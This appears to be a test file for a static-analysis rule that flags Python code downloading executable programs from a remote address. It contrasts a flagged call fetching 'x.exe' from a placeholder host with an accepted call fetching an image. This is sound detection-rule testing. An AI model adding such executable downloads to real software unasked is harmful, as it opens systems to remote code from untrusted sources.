import urllib.request
# ruleid: remote-code-program-from-address
urllib.request.urlretrieve("https://a.invalid/x.exe", "x.exe")
# ok: remote-code-program-from-address
urllib.request.urlretrieve("https://a.invalid/x.png", "x.png")
